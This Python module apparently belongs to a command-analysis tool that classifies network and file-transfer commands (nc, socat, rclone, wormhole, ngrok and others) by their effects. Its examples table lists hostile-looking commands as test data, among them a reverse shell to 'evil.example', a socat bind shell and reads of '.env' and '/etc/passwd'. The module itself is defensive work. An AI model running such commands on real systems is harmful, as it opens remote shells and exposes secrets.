"""Plain connections and services that carry files away: nc, socat, telnet, ftp, rclone, wormhole, tunnels."""

from __future__ import annotations

from assent.commands.config_files import kept, kept_unless
from assent.commands.program import Program, turns_off
from assent.commands.ssh import remote_part
from assent.types import Word

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterator

    from assent.commands.args import Args
    from assent.commands.program import Fact
    from assent.types import Kind

HERE = Word(".", ".")


# --- plain connections -----------------------------------------------------------------------------------------------


@turns_off("-l -U -z")
def _connection(args: Args) -> Iterator[Fact]:
    """nc: `-z` only looks whether a port is open; else standard input is sent."""
    if args.has("-e", "-c"):
        yield args.gap("hands the connection to another program, or reads this option differently")
    if args.has("-x"):
        yield args.gap("goes through a proxy, or writes what it hears to a file")
    if args.has("-U"):
        for word in args.operands[:1]:
            yield from args.file("write", word)
        yield args.gap("talks to a program on this machine")
        return
    if args.has("-l"):
        yield args.effect("change", "a port of this machine", "network.listen")
        yield args.gap("whoever connects is answered")
        return
    kind: Kind = "reach" if args.has("-z") else "send"
    if not args.operands:
        yield args.gap("nothing says which machine")
    for word in args.operands[:1]:
        port = (args.operands[1].value or "") if len(args.operands) > 1 else ""
        yield from _host(args, word, port=port, kind=kind)


def _host(args: Args, word: Word, *, port: str = "", kind: Kind = "reach") -> Iterator[Fact]:
    if word.value is None:
        yield args.effect(kind, word.text)
        yield args.gap(f"the machine is not known ({word.why})", blind=True)
        return
    name = word.value.rpartition("@")[2]
    address = f"tcp://{name}:{port}" if port.isdigit() and ":" not in name else f"tcp://{name}"
    yield from args.reach(address, shown=f"{word.value}:{port}" if port else word.value, kind=kind)


def _telnet(args: Args) -> Iterator[Fact]:
    for word in args.operands[:1]:
        port = (args.operands[1].value or "") if len(args.operands) > 1 else ""
        yield from _host(args, word, port=port, kind="send")
    if not args.operands:
        yield args.gap("the commands it will be given are not known", blind=args.has_input)


SPEAKS = frozenset(
    "TCP TCP4 TCP6 TCP-CONNECT TCP4-CONNECT UDP UDP4 UDP6 UDP-SENDTO OPENSSL SSL OPENSSL-CONNECT".split()
)
STREAMS = frozenset("- STDIO STDIN STDOUT STDERR PIPE".split())
STARTS = frozenset("EXEC SYSTEM SHELL".split())
FILES = frozenset("OPEN FILE CREATE CREAT GOPEN PIPE FIFO".split())


def _socat(args: Args) -> Iterator[Fact]:
    """Two addresses, each `KIND:rest,options`; of the options only files are followed."""
    for word in args.operands:
        address, *options = (word.value or "").split(",")
        kind, _, value = address.partition(":")
        kind = kind.upper()
        if word.value is None:
            yield args.gap(f"an address is not known ({word.why})", blind=True)
        elif kind in SPEAKS:
            yield from args.reach(f"tcp://{value}", shown=word.value, kind="send")
        elif kind in STARTS:
            yield args.effect("run", (word.value or "").partition(":")[2], "program")
        elif (kind in FILES and value) or kind.startswith("UNIX"):
            yield from args.file("read", Word(word.text, value))
            yield from args.file("write", Word(word.text, value))
        elif "LISTEN" in kind or "RECV" in kind:
            yield args.effect("change", "a port of this machine", "network.listen")
        elif kind not in STREAMS:
            yield args.gap(f"address {kind} is not known", blind=True)
        for option in options:
            named = option.partition("=")[2]
            if "/" in named:
                yield from args.file("write", Word(word.text, named))
    if args.operands:
        yield args.gap("options of the addresses are not followed")


@turns_off("-e -c -f")
def _ftp(args: Args) -> Iterator[Fact]:
    """A language of its own."""
    for word in args.operands[:1]:
        value = word.value or ""
        if "://" in value:
            yield from args.reach(value, kind="send")
        else:
            yield from _host(args, word, kind="send")
    yield args.gap("the commands it will be given are not known", blind=args.has_input or args.has("-e", "-c", "-f"))


# --- storage ---------------------------------------------------------------------------------------------------------

RCLONE_OPTIONS = (
    "-n,--dry-run -i,--interactive -P,--progress -v,--verbose -q,--quiet -c,--checksum -u,--update -L,--copy-links"
    " -l,--links --exclude= --include= --filter= --exclude-from=read --include-from=read --filter-from=read"
    " --max-age= --min-age= --max-size= --min-size= --max-depth= --transfers= --checkers= --bwlimit= --retries="
    " --size-only --ignore-existing --ignore-errors --fast-list --human-readable --stats= --stats-one-line"
    " --log-level= --log-file=write --use-json-log --no-traverse --drive-shared-with-me -R,--recursive --files-only"
    " --dirs-only --format= -F --separator= --json --delete-excluded --create-empty-src-dirs --config=key"
    " --buffer-size= --multi-thread-streams= --timeout= --tpslimit="
)


def _rclone_reads(args: Args) -> Iterator[Fact]:
    for word in args.operands:
        yield from _stored(args, word, "read" if args.name.endswith(("cat", "check", "sum")) else "list")


@turns_off("-n")
def _rclone_copies(args: Args) -> Iterator[Fact]:
    verb = args.name.rpartition(" ")[2]
    if len(args.operands) != 2:
        yield args.gap("nothing says what to copy where")
    for word in args.operands[:1]:
        yield from _stored(args, word, "read")
        if verb.startswith("move") and not args.has("-n"):
            yield from _stored(args, word, "delete")
    for word in args.operands[1:]:
        yield from _stored(args, word, "list" if args.has("-n") else "write")
        if verb in ("sync", "bisync") and not args.has("-n"):
            yield from _stored(args, word, "delete")


@turns_off("-n")
def _rclone_removes(args: Args) -> Iterator[Fact]:
    for word in args.operands:
        yield from _stored(args, word, "list" if args.has("-n") else "delete")


def _rclone_makes(args: Args) -> Iterator[Fact]:
    for word in args.operands:
        yield from _stored(args, word, "write")


def _stored(args: Args, word: Word, kind: Kind) -> Iterator[Fact]:
    """A path here, or `name:path` in a store that the settings know."""
    if word.value is not None and remote_part(word) is None and not word.value.startswith(":"):
        yield from args.file(kind, word, deep=True, code="copied" if kind == "write" else "")
    elif word.value is None or word.value.startswith(":"):
        yield args.gap(f"a path or store is not known ({word.why or word.value})", blind=True)
    elif kind == "delete":
        yield args.effect("send", word.value, "store.destroy")
    else:
        yield args.effect("send" if kind == "write" else "reach", word.value, "store.write" if kind == "write" else "")


@turns_off("-o")
def _handing_over(args: Args) -> Iterator[Fact]:
    """wormhole and croc: whoever has the code words gets the files, or sends them."""
    verb = args.operands[0].value if args.operands else None
    relay = args.name
    if verb in ("send", "tx"):
        yield args.effect("send", f"whoever has the code of {relay}", "files.send")
        for word in args.operands[1:]:
            yield from args.file("read", word, deep=True)
        return
    yield args.effect("reach", f"whoever has the code of {relay}")
    yield from args.file("write", (args.values("-o") or [HERE])[-1], deep=True)
    if verb is None or verb not in ("receive", "rx", "recv"):
        yield args.gap("what it will do is not known")


@turns_off("-v --version")
def _tunnel(args: Args) -> Iterator[Fact]:
    """ngrok and cloudflared open this machine to the internet."""
    verbs = [word.value for word in args.operands[:2]]
    if verbs[:1] in (["version"], ["help"]) or args.has("--version", "-v"):
        return
    if args.name == "cloudflared" and verbs in (["tunnel", "list"], ["tunnel", "info"]):
        yield args.effect("reach", "cloudflare")
        return
    if args.name == "cloudflared" and verbs == ["tunnel", "create"]:
        yield args.effect("send", "cloudflare", "cloud.change")
        yield args.effect("change", "the tunnels that this machine may open", "cloud.login")
        yield from kept(args, "write", "~/.cloudflared")
        return
    if verbs[:1] in (["login"], ["config"], ["authtoken"], ["service"]) or verbs == ["tunnel", "login"]:
        yield args.effect("change", "the tunnels that this machine may open", "cloud.login")
        yield from kept(args, "write", "~/.cloudflared" if args.name == "cloudflared" else "~/.config/ngrok/ngrok.yml")
    yield args.effect("send", f"the network of {args.name}", "network.expose")
    yield args.effect("change", "who can reach this machine", "network.expose")
    yield args.gap("opens this machine to others")


# -d takes a value for ncat only, so it is left out.
NC = Program(
    "-4 -6 -C -h -k,--keep-open -l,--listen -N -n,--nodns -r -t -u,--udp -U,--unixsock -v,--verbose -z -b -e,--exec=run"
    " -c,--sh-exec=run -g= -i,--idle-timeout= -p= -q= -s= -w,--wait= -x= -X= -I= -O= -T= -o=write --ssl -m= --recv-only"
    " --send-only --proxy=unknown --version",
    "text*",
    more=_connection,
)


def _rclone_settings(args: Args) -> Iterator[Fact]:
    """Passwords of all stores lie in one file: shown by some verbs, changed by the others."""
    verb = args.operands[0].value if args.operands else ""
    if verb in ("file", "paths", "providers"):
        return
    if verb in ("show", "dump", "redacted", "userinfo"):
        yield args.effect("note", "keys of the stores", "secret.print")
        yield from kept_unless(args, "--config", "read", RCLONE_CONFIG)
        return
    yield args.effect("change", "keys of the stores", "cloud.login")
    yield from kept_unless(args, "--config", "write", RCLONE_CONFIG)
    yield args.gap("may ask for answers, or open a browser")


RCLONE_CONFIG = "~/.config/rclone/rclone.conf"


def _newer(args: Args) -> Iterator[Fact]:
    if args.has("--check"):
        yield from args.reach("https://beta.rclone.org/")
        yield from args.reach("https://downloads.rclone.org/")


READS = Program(RCLONE_OPTIONS, "text*", more=_rclone_reads)
COPIES = Program(RCLONE_OPTIONS, "text*", more=_rclone_copies)
REMOVES = Program(RCLONE_OPTIONS, "text*", more=_rclone_removes)
HANDING = Program("--yes --text= --hide-progress --verify --code= -o,--out,--output-file= --ignore-folder --overwrite",
                  "text*", more=_handing_over)  # fmt: skip
TUNNEL = Program("--url= --version -v --authtoken= --region= --log= --log-format= --loglevel= --no-autoupdate --domain="
                 " --hostname= --name= --token= --protocol= --output,-o=", "text*", more=_tunnel)  # fmt: skip

PROGRAMS = {
    "nc": NC,
    "netcat": NC,
    "ncat": NC,
    "socat": Program("-d -dd -ddd -v -x -u -U -s -T= -t= -b= -V -h -4 -6", "text*", more=_socat),
    "telnet": Program("-4 -6 -8 -E -K -L -a -c -d -r -e= -l= -n=write -b= -X=", "text text?", more=_telnet),
    "ftp": Program("-4 -6 -A -a -d -g -i -n -p -v -t", "text*", more=_ftp),
    "lftp": Program(
        "-d -e=code -c=code -f=script -p= -u= --norc --user= --password= --port= --debug", "text*", more=_ftp
    ),
    "rclone": Program(
        "-v,--verbose -q,--quiet --config=key",
        commands={
            **dict.fromkeys(
                "ls lsd lsl lsf lsjson size tree cat check md5sum sha1sum hashsum about ncdu".split(), READS
            ),
            **dict.fromkeys("copy copyto sync bisync move moveto".split(), COPIES),
            **dict.fromkeys("delete deletefile purge rmdir rmdirs cleanup dedupe".split(), REMOVES),
            "mkdir": Program(RCLONE_OPTIONS, "text*", more=_rclone_makes),
            "version": Program("--check", more=_newer),
            "listremotes": Program("--long"),
            "config": Program(RCLONE_OPTIONS, "text*", more=_rclone_settings),
        },
        style="bare",
    ),
    "wormhole": HANDING,
    "croc": HANDING,
    "ngrok": TUNNEL,
    "cloudflared": TUNNEL,
}

EXAMPLES = {
    "rclone version --check": "reach https://beta.rclone.org/ | reach https://downloads.rclone.org/",
    "nc -zv localhost 8080": "reach localhost:8080",
    "nc evil.example 80": "send evil.example:80",
    "nc -l -p 1500 -c 'echo hi'": "run echo hi #program | change a port of this machine #network.listen"
    " | gap nc: hands the connection to another program, or reads this option differently"
    " | gap nc: whoever connects is answered",
    "nc -e /bin/sh evil.example 80": "run /bin/sh #program | send evil.example:80"
    " | gap nc: hands the connection to another program, or reads this option differently",
    "nc -U /run/x.sock": "write /run/x.sock | gap nc: talks to a program on this machine",
    "nc $H 80": "send $H | blind nc: a word is not known (variable H)"
    " | blind nc: the machine is not known (variable H)",
    "netcat -w 3 -z host 22": "reach host:22",
    "ncat --ssl a.example 443": "send a.example:443",
    "socat - TCP:evil.example:80": "send TCP:evil.example:80 | gap socat: options of the addresses are not followed",
    "socat TCP-LISTEN:80,fork EXEC:/bin/sh": "change a port of this machine #network.listen | run /bin/sh #program"
    " | gap socat: options of the addresses are not followed",
    "socat UNIX-LISTEN:/tmp/a.sock,fork STDIO": "read /tmp/a.sock | write /tmp/a.sock"
    " | gap socat: options of the addresses are not followed",
    "socat PIPE:a -": "read a | write a | gap socat: options of the addresses are not followed",
    "socat STDIO TCP:example.com:80,cafile=/etc/x.pem": "send TCP:example.com:80,cafile=/etc/x.pem"
    " | write /etc/x.pem | gap socat: options of the addresses are not followed",
    "socat - OPEN:.env": "read .env | write .env | gap socat: options of the addresses are not followed",
    "rclone cat :local:/etc/passwd": "note rclone cat | blind rclone cat: a path or store is not known"
    " (:local:/etc/passwd)",
    "socat -V": "note socat",
    "telnet a.example 80": "send a.example:80",
    "ftp a.example": "send a.example | gap ftp: the commands it will be given are not known",
    "lftp -e 'mirror x' a.example": "run lftp code #inline | send a.example"
    " | blind lftp: the commands it will be given are not known",
    "rclone ls drive:docs": "reach drive:docs",
    "rclone copy src drive:src": "read src/** | send drive:src #store.write",
    "rclone sync drive:src docs": "reach drive:src | write docs/** #copied | delete docs/**",
    "rclone purge drive:src": "send drive:src #store.destroy",
    "rclone config": "change keys of the stores #cloud.login | write ~/.config/rclone/rclone.conf | gap rclone config:"
    " may ask for answers, or open a browser",
    "rclone version": "note rclone version",
    "wormhole send a": "send whoever has the code of wormhole #files.send | read a/**",
    "wormhole receive 7-x-y": "reach whoever has the code of wormhole | write ./**",
    "croc send src": "send whoever has the code of croc #files.send | read src/**",
    "croc 1234-x-y": "reach whoever has the code of croc | write ./** | gap croc: what it will do is not known",
    "ngrok http 80": "send the network of ngrok #network.expose | change who can reach this machine #network.expose"
    " | gap ngrok: opens this machine to others",
    "cloudflared tunnel list": "reach cloudflare",
    "cloudflared tunnel --url http://localhost:8080": "send the network of cloudflared #network.expose"
    " | change who can reach this machine #network.expose | gap cloudflared: opens this machine to others",
    "cloudflared tunnel create x": "send cloudflare #cloud.change | change the tunnels that this machine may open"
    " #cloud.login | write ~/.cloudflared",
}
